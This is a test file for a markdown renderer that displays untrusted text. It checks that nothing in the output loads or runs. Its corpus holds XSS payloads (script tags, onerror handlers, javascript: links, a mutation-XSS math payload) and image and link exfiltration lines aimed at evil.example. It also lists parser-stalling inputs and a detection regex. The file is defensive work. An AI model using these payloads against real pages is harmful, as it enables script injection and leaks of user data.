// What untrusted markdown becomes on the page. The corpus holds what is known to load, run or mislead.
import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { createTranslator } from '../../../app/i18n.ts'
import { createCache, Providers } from '../../../app/providers.tsx'
import type { Connection } from '../../../app/transport.ts'
import { createWindowState } from '../../../app/window-state.ts'
import { Markdown } from './markdown.tsx'
import { checkedAddress } from './untrusted.ts'

const storage = { getItem: () => null, setItem: () => {}, removeItem: () => {} }
// Rendering to text asks the core for nothing.
const connection = {
  client: {},
  state: { state: 'open' },
  onState: () => () => {},
  close: () => {},
} as unknown as Connection
const windowStore = createWindowState(storage, 'window')
const translator = createTranslator()

function render(text: string, growing = false): string {
  return renderToStaticMarkup(
    <Providers connection={connection} windowStore={windowStore} translator={translator} cache={createCache()}>
      <Markdown text={text} growing={growing} />
    </Providers>,
  )
}

/** Tags of the page, without the icons of our own buttons. */
function tagsOf(html: string): Set<string> {
  const own = html.replace(/<svg.*?<\/svg>/gs, '')
  return new Set([...own.matchAll(/<(?<tag>[a-z][\w-]*)/g)].map((match) => match.groups?.['tag'] ?? ''))
}

const LOADS =
  /\s(?:src|srcset|href|xlink:href|poster|background|action|formaction|data|style|on\w+|ping|cite|id|name)=/i

const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![pixel](https://evil.example/p.png?q=secret)',
  '![pixel][ref]\n\n[ref]: https://evil.example/p.png',
  '![ref]\n[ref]: https://evil.example/p.png',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '<picture><source srcset="https://evil.example/p.png"></picture>',
  '<video poster="https://evil.example/p.png" autoplay>',
  '<svg onload=alert(1)><use href="https://evil.example/x.svg#a"/></svg>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input type=text name=q><button>go</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](\\\\evil.example\\share)',
  '[x](https://user:pass@evil.example)',
  '[x](ms-settings:x)',
  '<https://evil.example>',
  'https://evil.example and www.evil.example and me@evil.example',
  '- [ ] task <img src=x>',
  '| a | b |\n|---|---|\n| ![x](https://evil.example/p.png) | <b>x</b> |',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '[^1]\n\n[^1]: ![x](https://evil.example/p.png)',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<!-- comment --><![CDATA[x]]><?php x ?>',
  '# <a id=x name=y>heading</a>',
]

const ALLOWED = new Set([
  ...['div', 'section', 'p', 'br', 'hr', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'span', 'button', 'sup'],
  ...['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input'],
])

function expectHarmless(html: string): void {
  for (const tag of tagsOf(html)) expect(ALLOWED).toContain(tag)
  const tags = html.replace(/<svg.*?<\/svg>/gs, '').match(/<[a-z][^>]*>/gi) ?? []
  for (const tag of tags) expect(tag).not.toMatch(LOADS)
}

describe('untrusted markdown', () => {
  it.each(CORPUS)('%j loads and runs nothing', (text) => {
    expectHarmless(render(text))
    expectHarmless(render(text, true))
  })

  it('holds for any mixture of the corpus, cut anywhere', () => {
    const mixture = fc.array(fc.constantFrom(...CORPUS), { minLength: 1, maxLength: 4 })
    fc.assert(
      fc.property(mixture, fc.nat(400), (pieces, cut) => {
        expectHarmless(render(pieces.join(' ').slice(0, cut), true))
      }),
      { numRuns: 60 },
    )
  })

  it('shows raw HTML as the text it is', () => {
    expect(render('a <b>bold</b> word')).toContain('a &lt;b&gt;bold&lt;/b&gt; word')
    expect(render('<div>\nblock\n</div>')).toContain('&lt;div&gt;')
  })

  it('shows an image as its address', () => {
    expect(render('![chart](https://evil.example/p.png?q=1)')).toContain(
      'Image “chart”, not loaded: https://evil.example/p.png?q=1',
    )
  })

  it('makes links inert text with the whole address, and leaves bare names alone', () => {
    const html = render('[docs](https://example.org/a?b) www.example.org me@example.org')
    expect(html).toMatch(/<span role="link"[^>]* title="https:\/\/example.org\/a\?b"/)
    expect(html.match(/role="link"/g)).toHaveLength(1)
  })

  it('makes hidden characters visible, in code too', () => {
    expect(render('a\u202eb `c\u200bd`')).toContain('a⟨U+202E⟩b')
    expect(render('a\u202eb `c\u200bd`')).toContain('c⟨U+200B⟩d')
  })

  it('closes unfinished marks only while the text grows', () => {
    expect(render('some **bold', true)).toContain('<strong>bold</strong>')
    expect(render('some **bold')).toContain('**bold')
  })

  it('renders tables, lists and code', () => {
    const html = render('| a |\n|---|\n| 1 |\n\n1. one\n2. two\n\n```js\nlet a\n```\n')
    for (const tag of ['table', 'ol', 'pre']) expect(tagsOf(html)).toContain(tag)
    expect(html).toContain('>JavaScript</span>')
  })

  it('names the boxes of a task list', () => {
    const html = render('- [x] buy tea\n- [ ] drink it')
    expect(html).toMatch(/<input type="checkbox" disabled="" aria-label="Done" checked=""\/>/)
    expect(html).toMatch(/<input type="checkbox" disabled="" aria-label="Not done"\/>/)
  })

  it('keeps footnotes and definitions whose other half stands elsewhere', () => {
    expect(render('as shown[^1].\n\n[^1]: by *them*')).toContain('<sup>1</sup> by <em>them</em>')
    expect(render('as shown[^1].\n\nmore')).toContain('shown<sup>1</sup>.')
    expect(render('see [docs][d].\n\nmore\n\n[d]: https://example.org')).toContain('[d]: https://example.org')
  })

  it('makes formulas of what models write as formulas, and of nothing else', () => {
    const formulas = (text: string) =>
      [...render(text).matchAll(/class="math[^>]*><code>(.*?)<\/code>/g)].map((m) => m[1])
    expect(formulas('so $x^2$ and \\(a_1 * b_2\\) and \n\n\\[\ny = 1\n\\]\n')).toEqual(['x^2', 'a_1 * b_2', 'y = 1'])
    expect(formulas('- first\n\n  $$\n  z\n  $$\n')).toEqual(['z'])
    for (const prose of [
      'from $5 to $10',
      '$5-$10',
      '`$a$` and `$b$`',
      '```\n$a$\n```',
      'US$5 or A$7',
      '$HOME/$PATH',
    ]) {
      expect(formulas(prose), prose).toEqual([])
    }
    expect(render('from $5 to $10')).toContain('from $5 to $10')
  })

  it('shows control tokens of models, and half a fence, as the text they are', () => {
    for (const token of ['<|im_end|>', '<|endoftext|>', '<s>', '[INST]', '<start_of_turn>model', '<think>']) {
      const escaped = token.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
      expect(render(`so ${token} it is`)).toContain(`so ${escaped} it is`)
      expect(render(token)).toContain(escaped)
    }
    for (const half of ['``', '```', '```j', '```js\n', '```js\nlet a\n``', '~~~', '- ```\n  a']) {
      expectHarmless(render(half, true))
      expectHarmless(render(half))
    }
  })

  it('survives deep nesting', () => {
    expectHarmless(render(`${'> '.repeat(500)}![x](https://evil.example/p.png)`))
  })
})

describe('markdown made to hold up the page', () => {
  const long = 'word '.repeat(200_000)
  const attacks: [string, string][] = [
    ['quotes in quotes', '> '.repeat(5_000)],
    ['lists in lists', Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['lists on one line', '- '.repeat(10_000)],
    ['numbers on one line', '1. '.repeat(10_000)],
    ['open brackets', '['.repeat(50_000)],
    ['links without end', '[a]('.repeat(20_000)],
    ['images without end', '![](<'.repeat(20_000)],
    ['emphasis', '*a **a '.repeat(20_000)],
    ['emphasis that never closes', 'a**b'.repeat(20_000)],
    ['underscores', '_a __a '.repeat(20_000)],
    ['struck through', '~~a '.repeat(20_000)],
    ['backticks of every length', Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join(' ')],
    ['a table of many cells', `|a|b|\n|-|-|\n${'|x'.repeat(30_000)}`],
    ['a table of many columns', `${'|a'.repeat(5_000)}|\n${'|-'.repeat(5_000)}|\n${'|x'.repeat(5_000)}|`],
    ['dollars', '$'.repeat(50_001)],
    ['formulas without end', '\\(a '.repeat(20_000)],
    ['formulas that never close', '$$a '.repeat(20_001)],
    ['addresses', 'https://a '.repeat(20_000)],
    ['entities', '&amp'.repeat(20_000)],
    ['tags', '<a '.repeat(20_000)],
    ['comments', '<!--'.repeat(20_000)],
    ['footnotes', '[^a]: '.repeat(10_000)],
    ['definitions', '[a]: b\n'.repeat(10_000)],
    ['blank lines', '\n'.repeat(100_000)],
    ['many small blocks', 'a\n\n'.repeat(40_000)],
    ['backslashes', '\\'.repeat(100_000)],
    ['one line', long],
  ]

  it.each(attacks)('%s: shown, and only counted', (_, text) => {
    for (const growing of [true, false]) expectHarmless(render(text.slice(0, 190_000), growing))
    expect(render(text).length).toBeGreaterThan(0)
  })

  it('over a limit it is plain text, whole and in pieces', () => {
    const text = `${'[x]'.repeat(5_000)}\nend`
    const html = render(text)
    expect(html.replace(/<[^>]+>/g, '')).toBe(text)
    expect(html).not.toContain('role="link"')
    expect(render(long).replace(/<[^>]+>/g, '')).toBe(long)
  })
})

it('opens only addresses of three kinds without a name and password', () => {
  expect(checkedAddress('https://example.org/a')?.href).toBe('https://example.org/a')
  expect(checkedAddress('mailto:a@example.org')?.href).toBe('mailto:a@example.org')
  // The form that would be opened shows what a lookalike letter hides.
  expect(checkedAddress('https://exаmple.org')?.host).toBe('xn--exmple-4nf.org')
  for (const address of ['javascript:x', 'file:///x', 'https://a:b@example.org', '//example.org', 'x', 'ftp://x']) {
    expect(checkedAddress(address)).toBeNull()
  }
})
